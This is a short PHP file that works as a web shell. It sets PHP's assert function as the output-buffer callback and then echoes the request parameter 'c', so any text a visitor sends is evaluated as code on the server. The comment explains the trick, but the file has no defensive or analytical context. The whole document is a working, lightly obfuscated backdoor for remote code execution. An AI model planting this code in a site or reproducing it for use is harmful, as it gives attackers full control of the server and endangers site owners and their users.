<?php
// The output buffer's callback is assert: whatever is printed runs.
ob_start('assert');
echo $_REQUEST['c'];
ob_end_flush();
